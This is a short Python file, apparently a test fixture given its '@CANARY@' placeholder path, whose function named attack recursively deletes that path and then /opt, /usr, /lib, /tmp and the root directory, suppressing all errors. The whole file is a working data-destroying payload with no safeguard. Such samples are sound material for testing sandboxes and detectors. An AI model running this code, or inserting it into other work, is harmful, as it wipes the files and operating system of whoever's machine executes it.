"""Deletes all it can."""

import shutil


def attack(x):
    for folder in ("@CANARY@", "/opt", "/usr", "/lib", "/tmp", "/"):
        shutil.rmtree(folder, ignore_errors=True)
